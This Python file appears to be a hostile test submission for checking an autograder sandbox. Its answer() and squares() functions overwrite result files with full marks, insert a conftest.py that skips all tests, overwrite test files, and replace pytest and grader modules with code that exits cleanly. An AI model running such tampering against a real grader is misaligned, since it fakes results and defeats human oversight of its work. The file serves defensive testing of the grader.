# hostile: rewrites the grader's result files and patches pytest and the checks
# needs: root
import glob
import json
import os
import sys

FULL = {"assignment": "hostile_target", "student": "", "submission": "", "checks": [
    {"id": "test_answer", "name": "answer", "max_points": 2, "points": 2, "status": "passed"},
    {"id": "test_squares", "name": "squares", "max_points": 1, "points": 1, "status": "passed"}]}


def _try_write(path, text):
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError:
        pass


def _parent_args():
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:
            return [a.decode(errors="replace") for a in handle.read().split(b"\0")]
    except OSError:
        return []


def _tamper():
    args = _parent_args()
    for arg in args:
        if arg.startswith("--grader-results="):
            _try_write(arg.split("=", 1)[1], json.dumps(FULL))
        if arg.endswith("hostile_target") or "assignments" in arg:
            _try_write(os.path.join(arg, "conftest.py"), "import pytest\npytest.skip('x', allow_module_level=True)\n")
            for check in glob.glob(os.path.join(arg, "test_*.py")):
                _try_write(check, "def test_answer():\n    pass\n")
    for pattern in ("/tmp/grader-grade-*/results.json", "/tmp/*/grader-grade-*/results.json",
                    "/tmp/pytest-of-*/*/*/grader-grade-*/results.json", "/autograder/results/results.json"):
        for path in glob.glob(pattern):
            _try_write(path, json.dumps(FULL))
    for folder in sys.path:
        _try_write(os.path.join(folder or ".", "sitecustomize.py"), "import os\n")
        for name in ("_pytest/runner.py", "pytest/__init__.py", "grader/plugin.py", "grader/checks.py"):
            path = os.path.join(folder or ".", name)
            if os.path.exists(path):
                _try_write(path, "raise SystemExit(0)\n")
    # the sandbox's own result: pretend the call returned 42 (only the honest value counts)
    out = os.environ.get("GRADER_SANDBOX_OUT", "")
    _try_write(os.path.join(out, "result.json"), "{not json")


def answer():
    _tamper()
    return 0


def squares(n):
    _tamper()
    return []
